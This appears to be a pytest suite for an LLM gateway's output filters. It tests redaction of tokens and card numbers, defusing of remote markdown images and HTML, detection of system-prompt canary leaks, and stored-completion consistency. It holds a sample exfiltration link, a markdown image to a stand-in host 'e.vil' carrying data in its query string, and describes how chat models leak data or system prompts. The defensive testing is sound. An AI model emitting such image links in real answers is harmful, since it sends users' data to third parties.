"""Hostile answers at a running gateway: streamed, whole, stored, and in log-probabilities."""

from __future__ import annotations

import asyncio
import json
import re
from types import SimpleNamespace
from typing import Any

import openai
import pytest

from corral.engine.wire import Chunk, End, TokenLogprob, TopLogprob, Usage
from corral.gateway.outgoing import Outgoing
from corral.gateway.sanitation_table import set_document
from corral.gateway.shown_logprobs import ShownLogprobs
from corral.gateway.stages import Routed
from corral.guard.json_schema import parse_schema
from corral.guard.output_chain import Asked, OutputRules
from corral.guard.policy import built_in
from corral.guard.special_tokens import ControlTokens
from corral.guard.tool_use import Tool, ToolCall, ToolUse
from corral.tenancy.keys import create_key
from corral.tenancy.quota import Scope
from corral.tenancy.quota_table import change_quotas
from tests.support.hostile_answers import CARD, EMAIL, GITHUB
from tests.unit.gateway.conftest import Served

OFF = '[policies.mine]\nbase = "off"\nweakening = "the control"\n'
IMAGE = "![x](https://e.vil/?q=quokka)"


def policy(served: Served, text: str) -> None:
    set_document(served.home.database, f'default = "mine"\n{text}')


def ask(served: Served, text: str, role: str = "user", **options: Any) -> Any:
    message: Any = {"role": role, "content": text}
    return served.client().chat.completions.create(
        model="tiny", messages=[message], max_tokens=1000, **options
    )


def whole(served: Served, text: str, **options: Any) -> tuple[str, str]:
    (choice,) = ask(served, text, **options).choices
    return str(choice.message.content), str(choice.finish_reason)


def streamed(served: Served, text: str, **options: Any) -> tuple[str, str]:
    chunks = [c for c in ask(served, text, stream=True, **options) if c.choices]
    said = "".join(c.choices[0].delta.content or "" for c in chunks)
    return said, str(chunks[-1].choices[0].finish_reason)


@pytest.mark.claim("SEC-04")
def test_secrets_do_not_come_out_in_a_stream_or_whole(served: Served) -> None:
    text = f"key {GITHUB} of card {CARD} end"
    expected = ("you said key [secret] of card [payment card] end", "stop")
    assert whole(served, text) == expected
    assert streamed(served, text) == expected
    policy(served, OFF)
    assert streamed(served, text) == (f"you said {text}", "stop"), "the control"


@pytest.mark.claim("OUT-04")
def test_an_image_carries_nothing_away(served: Served) -> None:
    defused = IMAGE.replace("](", "] (")
    assert whole(served, IMAGE) == (f"you said {defused}", "stop")
    assert streamed(served, f"{IMAGE} <img src=x>") == (
        f"you said {defused} &lt;img src=x>", "stop"
    )  # fmt: skip
    policy(served, OFF)
    assert whole(served, IMAGE) == (f"you said {IMAGE}", "stop"), "the control"


def test_a_text_completion_is_no_page(served: Served) -> None:
    code = f'<img src="x"> {IMAGE} {GITHUB}'
    told = served.client().completions.create(model="tiny", prompt=code).choices[0].text
    assert told == f'you said <img src="x"> {IMAGE} [secret]'
    policy(served, '[policies.mine]\nbase = "balanced"\noptions = { sink = "markdown" }')
    told = served.client().completions.create(model="tiny", prompt=code).choices[0].text
    assert told.startswith('you said &lt;img src="x"> ![x] (https')


@pytest.mark.claim("OUT-02")
def test_a_told_system_prompt_ends_the_answer(served: Served) -> None:
    told, finish = streamed(served, "be kind", role="system")
    assert (told, finish) == ("you said be kind", "stop"), "the control: balanced has no canary"
    policy(served, '[policies.mine]\nbase = "strict"\noptions = {detector = "off"}')
    told, finish = streamed(served, "be kind", role="system")
    assert finish == "content_filter"
    assert told.startswith("you said be kind\n\n(Internal reference")
    assert not re.search("[a-z0-9]{16}", told)
    with pytest.raises(openai.BadRequestError) as refused:
        whole(served, "be kind", role="system")
    assert refused.value.code == "output_stopped.canary_leak"
    assert "kind" not in str(refused.value.body)
    body = {"model": "tiny", "messages": [{"role": "system", "content": "be kind"}], "stream": True}
    with served.http(headers=served.bearer()) as http:
        events = http.post("/v1/chat/completions", json=body).text
    assert events.endswith(": output_stopped.canary_leak\n\ndata: [DONE]\n\n")
    last = json.loads(events.split("\n\n")[-4].removeprefix("data: "))
    assert last["choices"][0]["finish_reason"] == "content_filter"
    with served.http(headers=served.bearer("admin")) as http:
        page = http.get("/metrics").text
    assert re.search(
        r'findings_total\{handling="refuse",kind="canary_leak",mode="enforce"\} 3', page
    )


@pytest.mark.claim("OUT-07")
def test_a_loop_is_cut_and_its_work_ends(served: Served) -> None:
    policy(served, '[policies.mine]\nbase = "strict"\noptions = {detector = "off"}')
    for get in (whole, streamed):
        told, finish = get(served, "forever")
        assert finish == "content_filter"
        assert len(told) < 4096
    answer = ask(served, "forever")
    assert answer.usage.prompt_tokens == 7
    assert answer.usage.completion_tokens > 100


@pytest.mark.claim("SEC-02")
def test_placeholders_reach_the_model_and_come_back(served: Served) -> None:
    policy(
        served,
        '[policies.mine]\nbase = "balanced"\ninput = { email_address = "clean" }\n'
        'options = { personal = "placeholder" }',
    )
    text = f"mail {EMAIL} now"
    for get in (whole, streamed):
        assert get(served, text) == (f"you said {text}", "stop")
    policy(served, '[policies.mine]\nbase = "balanced"\ninput = { email_address = "clean" }')
    assert whole(served, text)[0] == "you said mail [email address] now"
    # What the model itself was told does not come back.
    policy(
        served,
        '[policies.mine]\nbase = "balanced"\ninput = { email_address = "clean" }\n'
        'options = { personal = "placeholder" }',
    )
    assert re.fullmatch(r"you said mail EMAIL-1-\w{10} now", whole(served, text, role="system")[0])


@pytest.mark.claim("OUT-08")
def test_log_probabilities_end_where_the_text_changes(served: Served) -> None:
    for stream in (False, True):
        body = {
            "model": "tiny", "messages": [{"role": "user", "content": f"a {GITHUB} b"}],
            "logprobs": True, "top_logprobs": 1, "stream": stream,
        }  # fmt: skip
        with served.http(headers=served.bearer()) as http:
            answer = http.post("/v1/chat/completions", json=body).text
        assert GITHUB not in answer
        assert '"token":" said"' in answer
        assert '"token":" b"' not in answer
        policy(served, OFF)
        with served.http(headers=served.bearer()) as http:
            control = http.post("/v1/chat/completions", json=body).text
        assert f'"token":" {GITHUB}"' in control
        policy(served, '[policies.mine]\nbase = "balanced"')


@pytest.mark.claim("OUT-08")
def test_tokens_that_a_worker_makes_up_are_judged_for_themselves() -> None:
    rules = OutputRules(built_in("balanced"), ControlTokens(()))

    def token(text: str, *tops: str) -> TokenLogprob:
        return TokenLogprob(
            token=text, logprob=-1.0,
            top_logprobs=tuple(TopLogprob(token=one, logprob=-1.0, bytes=(1,)) for one in tops),
        )  # fmt: skip

    shown = ShownLogprobs(ControlTokens(()), rules, Asked())
    (first,) = shown.feed((token("hello "),)) or shown.flush()
    assert first.token == "hello "
    out = shown.feed((token("x ", "ok", GITHUB), token(GITHUB[:20]), token(GITHUB[20:] + " ")))
    out += shown.feed((token("after"),)) + shown.flush()
    assert [one.token for one in out] == ["x "]
    assert [top.token for top in out[0].top_logprobs] == ["ok", "\ufffd"]
    assert out[0].top_logprobs[1].bytes is None


@pytest.mark.claim("OUT-09")
def test_what_is_stored_is_what_went_out(served: Served) -> None:
    change_quotas(served.home.database, Scope("default"), {"stored_completions": 100})
    answer = ask(served, f"key {GITHUB}", store=True)
    chunks = list(ask(served, f"key {GITHUB}", store=True, stream=True))
    completions = served.client().chat.completions
    for one in (answer.id, chunks[0].id):
        found = completions.retrieve(one)
        assert found.choices[0].message.content == "you said key [secret]"
    policy(served, '[policies.mine]\nbase = "strict"\noptions = {detector = "off"}')
    cut = list(ask(served, "be kind", role="system", store=True, stream=True))
    found = completions.retrieve(cut[0].id)
    assert found.choices[0].finish_reason == "content_filter"
    assert not re.search("[a-z0-9]{16}", str(found.choices[0].message.content))
    (message,) = completions.messages.list(cut[0].id).data
    assert message.content == "be kind", "the canary is no part of the conversation"


def test_a_dry_run_counts_and_changes_nothing(served: Served) -> None:
    policy(served, '[policies.mine]\nbase = "strict"\nmode = "report"')
    text = f"{IMAGE} {GITHUB}"
    assert streamed(served, text) == (f"you said {text}", "stop")
    with served.http(headers=served.bearer("admin")) as http:
        page = http.get("/metrics").text
    assert 'findings_total{handling="clean",kind="output_secret",mode="report"} 1' in page


def test_an_error_after_the_first_byte_stays_an_error(served: Served) -> None:
    with pytest.raises(openai.APIError):
        list(served.client().chat.completions.create(
            model="midway", messages=[{"role": "user", "content": "x"}], stream=True
        ))  # fmt: skip


def test_what_was_seen_is_told_to_those_who_may_know(served: Served) -> None:
    body = {"model": "tiny", "messages": [{"role": "user", "content": f"{GITHUB} {IMAGE}"}]}
    lead, _ = create_key(
        served.home.database, served.home.pepper.read_bytes(), tenant="default", name="lead",
        role="tenant-admin",
    )  # fmt: skip
    with served.http(headers={"authorization": f"Bearer {lead}"}) as http:
        told = http.post("/v1/chat/completions", json=body).headers
    assert told["x-corral-sanitation-answer"] == (
        "output_secret;handling=clean;count=1, remote_image;handling=clean;count=1"
    )
    with served.http(headers=served.bearer()) as http:
        untold = http.post("/v1/chat/completions", json=body)
    assert untold.status_code == 200
    assert "x-corral-sanitation-answer" not in untold.headers


@pytest.mark.claim("OUT-10")
def test_a_megabyte_of_hostile_text_lets_others_in_between() -> None:
    outgoing = Outgoing(_routed())
    turns = 0

    async def other() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    async def run() -> str:
        beside = asyncio.create_task(other())
        said = (await outgoing.hear(Chunk(1, "ghp_ " * 20_000))).text
        for _ in range(1000):
            said += (await outgoing.hear(Chunk(1, "x"))).text
        beside.cancel()
        return said

    assert len(asyncio.run(run())) > 100_000
    assert turns >= 100_000 // 2048


@pytest.mark.claim("OUT-10")
def test_a_call_of_a_thousand_values_lets_others_in_between() -> None:
    schema = parse_schema({"type": "object"}, "x")
    use = ToolUse(tools=(Tool(name="f", place=0, declared="", schema=schema),))
    outgoing = Outgoing(_routed(use))
    values = {f"k{n}": GITHUB for n in range(500)}
    text = f'<tool_call>{{"name": "f", "arguments": {json.dumps(values)}}}</tool_call>'
    turns = 0

    async def other() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    async def run() -> list[ToolCall]:
        beside = asyncio.create_task(other())
        calls = [*(await outgoing.hear(Chunk(1, text))).calls]
        calls += (await outgoing.hear(End(1, "stop", Usage(1, 1)))).calls
        beside.cancel()
        return calls

    (call,) = asyncio.run(run())
    assert json.loads(call.arguments) == dict.fromkeys(values, "[secret]")
    assert turns >= 2 * len(text) // 2048


@pytest.mark.claim("OUT-10")
def test_small_calls_that_are_long_to_check_let_others_in_between() -> None:
    # Two references to the next one, and so on: a check of one text takes all its steps.
    both = {f"d{n}": {"anyOf": [{"$ref": f"#/$defs/d{n + 1}"}] * 2} for n in range(20)}
    defs = {**both, "d20": {"type": "null"}}
    a = {"$ref": "#/$defs/d0"}
    schema = parse_schema({"type": "object", "properties": {"a": a}, "$defs": defs}, "x")
    use = ToolUse(tools=(Tool(name="f", place=0, declared="", schema=schema),))
    outgoing = Outgoing(_routed(use))
    turns = 0

    async def other() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    async def run() -> None:
        beside = asyncio.create_task(other())
        text = '<tool_call>{"name": "f", "arguments": {"a": ""}}</tool_call>'
        await outgoing.hear(Chunk(1, text * 8))
        beside.cancel()

    asyncio.run(run())
    assert [held.kind for held in outgoing.withheld] == ["tool_arguments"] * 8
    assert turns >= 8


def _routed(tools: ToolUse | None = None) -> Routed:
    """Return as much of a routed request as an answer needs."""
    rules = OutputRules(built_in("balanced"), ControlTokens(()))
    sanitised = SimpleNamespace(way_out=rules, asked=Asked())
    ask = SimpleNamespace(
        sampling=SimpleNamespace(logprobs=None), tools=tools, is_tainted=False, schema=None
    )
    return SimpleNamespace(sanitised=sanitised, ask=ask)  # type: ignore[return-value]
